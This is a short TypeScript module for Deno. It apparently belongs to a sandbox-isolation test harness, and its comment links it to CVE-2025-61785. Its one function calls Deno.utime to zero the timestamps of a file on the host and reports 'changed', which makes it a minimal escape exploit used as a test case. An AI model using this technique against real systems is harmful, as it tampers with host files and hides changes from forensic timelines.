// Changes the times of a file of the host (CVE-2025-61785).
import type { Target } from "../attack.ts";

export const layer = "namespaces";

export default async function (target: Target): Promise<string | null> {
  await Deno.utime(target.hostFile, 0, 0);
  return "changed";
}
